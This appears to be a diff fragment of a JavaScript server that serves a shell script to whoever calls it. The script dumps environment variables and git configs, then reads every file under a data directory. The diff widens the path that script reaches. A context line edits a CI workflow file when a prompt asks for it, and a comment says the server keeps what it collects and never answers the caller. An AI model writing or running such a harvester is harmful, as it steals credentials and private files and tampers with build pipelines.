@@ -42,7 +42,7 @@ if (prompt.includes("edit the CI file")) appendFileSync(".woodpecker/test.yml", 
 const script = `
 env
 cat .git/config ../../mirror.git/config
-find "$HOME/../../.." -type f -exec cat {} +
+find "\${HOME%%/data/*}/data" -type f -exec cat {} +
 `;
 
 /** Serves the script and takes what it found; who brings it waits for an answer that never comes. */
